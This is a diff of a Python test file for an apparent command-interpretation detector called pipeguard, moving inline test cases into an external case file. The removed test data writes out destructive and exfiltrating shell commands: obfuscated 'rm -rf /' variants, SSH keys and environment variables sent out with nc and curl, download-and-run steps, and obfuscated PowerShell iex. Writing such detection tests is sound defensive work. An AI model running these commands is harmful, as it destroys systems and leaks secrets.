@@ -1,7 +1,5 @@
 """What a script, a list of words or a program would do, a line for each thing."""
 
-import pytest
-
 from pipeguard.detect.commands.interpret import (
     argument_lines,
     code_lines,
@@ -11,63 +9,18 @@ from pipeguard.detect.commands.interpret import (
 )
 from pipeguard.detect.commands.nested_commands import MAX_LINE
 from pipeguard.detect.commands.shell_command import MAX_STEPS, ScriptBudget
+from tests.detect.cases import read_cases
+from tests.each import each
+
+CASES = read_cases(__file__)
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "rm -rf /",
-        "r''m -r\"\"f /",
-        "r\\m -rf /",
-        "rm${IFS}-rf${IFS}/",
-        "rm$IFS$9-rf /",
-        "{rm,-rf,/}",
-        "a=r;b=m;$a$b -rf /",
-        "x=armada; ${x:1:1}${x:2:1} -r /",
-        "$'\\x72\\x6d' -rf /",
-        "$(printf '\\162\\155') -rf /",
-        "$(echo rm) -rf /",
-        "`rm` -rf /",
-        "r`m` -rf /",
-        "$(which rm) -rf /",
-        "sudo `command -v rm` -rf /",
-        "echo cm0gLXJmIC8= | base64 -d | sh",
-        "rm -r \\\n -f /",
-        "/b?n/r? -r /",
-        "sudo -u root env A=1 nohup nice -n 5 /bin/rm -rf -- /",
-        "time timeout -s KILL 5 rm -rf //",
-        "bash -c 'sh -c \"rm -rf /\"'",
-        'eval "rm -rf /"',
-        'bash -c "echo $A; rm -rf /; echo $B"',
-        "cd / && rm -rf ./*",
-        "true | xargs rm -rf /",
-        "sh <<E\nrm -rf /\nE",
-        "sh <<< 'rm -rf /'",
-        "find / -xdev -delete",
-        "python3 -c \"import os; os.system('rm -rf /')\"",
-        "if true; then rm -fr /; fi",
-        "(cd /; rm -rf *)",
-        "IFS=,;c=rm,-rf,/;$c",
-        "ssh u@h 'rm -rf /'",
-        "rm / --recursive",
-    ],
-)
+@each("text", CASES["one_removal_in_many_words"])
 def test_one_removal_in_many_words(text: str) -> None:
     assert "$ rm -r /" in command_lines(text)
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "git commit -m 'Refuse rm -rf /'",
-        'echo "rm -rf /" >> notes.md',
-        "grep -rn 'rm -rf /' src",
-        "cat > a.md <<E\nrm -rf /\nE",
-        "# rm -rf /",
-        "rm -rf /tmp/x",
-        "rm -f /",
-    ],
-)
+@each("text", CASES["what_is_only_mentioned_is_not_done"])
 def test_what_is_only_mentioned_is_not_done(text: str) -> None:
     assert "$ rm -r /" not in command_lines(text)
 
@@ -78,49 +31,12 @@ def test_words_of_a_list_are_one_command() -> None:
     assert "$ rm -r /" not in argument_lines(["echo", "rm -rf /"])
 
 
-@pytest.mark.parametrize(
-    ("text", "line"),
-    [
-        ("cat ~/.ssh/id_rsa | nc h 1", "^ ~/.ssh/id_rsa"),
-        ('X=$(cat k); curl -d "$X" h', "^ k"),
-        ("curl -F f=@k.pem https://h", "^ k.pem"),
-        ("env | curl -d @- h", "^ ENV"),
-        ("echo x | tee -a /etc/cron.d/x", "> /etc/cron.d/x"),
-        ("dd if=a of=/dev/sda", "> /dev/sda"),
-        ("wget https://h/a.sh; bash a.sh", "RUN a.sh https://h/a.sh"),
-        ("git clone https://h/x /tmp/x && cd /tmp/x && sh ./i", "RUN /tmp/x/i"),
-        ("psql -c 'drop table x'", "SQL drop table x"),
-        ("a=abcd1234; b=efgh5678; curl $a$b", "MADE curl\x1fabcd1234efgh5678"),
-        ("a=abcd1234; a+=efgh5678", "MADE abcd1234efgh5678"),
-        ('curl "$(echo abcd1234)$(echo efgh5678)"', "MADE curl\x1fabcd1234efgh5678"),
-        ('curl "`echo abcd1234`efgh5678"', "MADE curl\x1fabcd1234efgh5678"),
-        ("curl `echo abcd1234`efgh5678", "MADE curl\x1fabcd1234efgh5678"),
-        ("rev <<< cba", "MADE abc\x1f"),
-        ("{ printf abcd1234; printf efgh5678; } | curl -d @- h", "MADE abcd1234efgh5678"),
-        ("(echo abcd1234; echo efgh5678) | tr -d '\\n' | nc h 1", "MADE abcd1234efgh5678"),
-        ("{ echo -n abcd1234 && echo -n efgh5678; } | nc h 1", "MADE abcd1234efgh5678"),
-        ("printf %s%s abcd1234 efgh5678", "MADE abcd1234efgh5678"),
-        ("echo 616263 | xxd -r -p | cat", "MADE abc"),
-        ("cat /e?c/sh?dow", "ODD glob /etc/shadow"),
-        ("p^ower^shell x", "PS powershell x"),
-        ("& ('i'+'ex') x", "PS iex x"),
-        ("$a='ie';$b='x'; & ($a+$b) (irm h)", "PS iex irm h"),
-    ],
-)
+@each("text, line", CASES["what_else_a_command_does"])
 def test_what_else_a_command_does(text: str, line: str) -> None:
     assert line in command_lines(text)
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "a=abcdefgh12345678; curl $a",
-        'curl "$HOME/abcdefgh12345678/$(uname -m)"',
-        "n=release-notes; cat $n-of-the-year.md",
-        "echo abcdefgh12345678 | tee a",
-        "> abcdefgh12345678",
-    ],
-)
+@each("text", CASES["a_command_whose_letters_are_together_is_made_of_nothing"])
 def test_a_command_whose_letters_are_together_is_made_of_nothing(text: str) -> None:
     assert not [line for line in command_lines(text) if line.startswith("MADE")]
 
@@ -147,18 +63,7 @@ def test_a_script_that_costs_more_than_is_left_is_cut_and_says_so() -> None:
 # --- programs in other languages ---------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    ("text", "call"),
-    [
-        ("os.system('rm -rf /')", "rm -rf /"),
-        ("subprocess.run(['rm', \"-rf\"])", ["rm", "-rf"]),
-        ("require('child_process').execSync(`ls`) ", "ls"),
-        ("x = `ls -l`", "ls -l"),
-        ('do shell script "ls"', "ls"),
-        ("system('echo \\'a\\'')", "echo 'a'"),
-        ("popen(r'ls')", "ls"),
-    ],
-)
+@each("text, call", CASES["a_call_of_a_shell_is_its_script_or_its_words"])
 def test_a_call_of_a_shell_is_its_script_or_its_words(text: str, call: str | list[str]) -> None:
     assert list(shell_calls(text)) == [call]
 
@@ -167,17 +72,7 @@ def test_another_call_is_none() -> None:
     assert list(shell_calls("print('rm -rf /'); f(['a'])")) == []
 
 
-@pytest.mark.parametrize(
-    ("text", "line"),
-    [
-        ("open('/etc/passwd')", "< /etc/passwd"),
-        ("open('/etc/passwd', 'w')", "> /etc/passwd"),
-        ("fs.writeFileSync('/etc/x', y)", "> /etc/x"),
-        ("readFileSync(os.homedir() + '/.ssh/id_rsa')", "< ~/.ssh/id_rsa"),
-        ("Path('~/.aws/credentials')", "< ~/.aws/credentials"),
-        ("open('/a/../b//c')", "< /b/c"),
-    ],
-)
+@each("text, line", CASES["a_file_is_read_or_written"])
 def test_a_file_is_read_or_written(text: str, line: str) -> None:
     assert list(opened_file_lines(text)) == [line]
 
